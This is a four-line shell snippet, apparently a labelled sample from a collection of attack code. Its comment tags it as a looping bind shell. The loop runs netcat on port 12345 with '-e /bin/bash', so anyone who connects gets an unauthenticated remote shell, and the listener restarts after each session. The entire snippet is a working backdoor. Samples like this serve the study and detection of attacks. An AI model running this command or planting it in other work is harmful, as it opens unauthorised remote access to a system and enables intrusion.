# class: bind shell; style: loop
while true; do
    nc -l -p 12345 -e /bin/bash
done
